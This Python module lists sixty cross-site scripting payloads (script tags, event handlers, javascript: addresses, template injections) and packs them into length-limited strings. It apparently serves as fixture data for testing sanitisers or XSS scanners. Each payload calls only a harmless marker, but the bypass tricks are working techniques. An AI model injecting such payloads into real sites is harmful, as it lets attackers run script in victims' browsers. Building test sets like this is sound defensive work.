"""Sixty texts that run a script where a page takes them for markup, for an address or for a template."""

RUN = "xssRan()"
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script/src=//localhost/x.js></script>{RUN}",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>/*{RUN}*/window.{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f'"><img src=x onerror={RUN}>',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><set onbegin={RUN} attributename=x>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=x onerror={RUN}></object>",
    f"<iframe onload={RUN}></iframe>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<a id=x tabindex=1 onfocus={RUN} autofocus>x</a>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover={RUN} x='",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
)
ADDRESSES = (
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=javascript:{RUN}//>",
    f"<form action=javascript:{RUN}><input type=submit autofocus></form>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f"<javascript:{RUN}>",
)
TEMPLATES = (
    f"{{{{{RUN}}}}}",
    f"${{{RUN}}}",
    f"{{@html '<img src=x onerror={RUN}>'}}",
    f"{{% if 1 %}}<script>{RUN}</script>{{% endif %}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<img src=x onerror=&#120;ssRan()>",
)
PAYLOADS = (*TAGS, *HANDLERS, *ADDRESSES, *TEMPLATES)


def packed(limit: int) -> list[str]:
    """All of them in as few texts as have room, each of up to `limit` characters; longer ones stay out."""
    texts = [""]
    for payload in PAYLOADS:
        if len(payload) > limit:
            continue
        if len(texts[-1]) + 1 + len(payload) > limit:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts
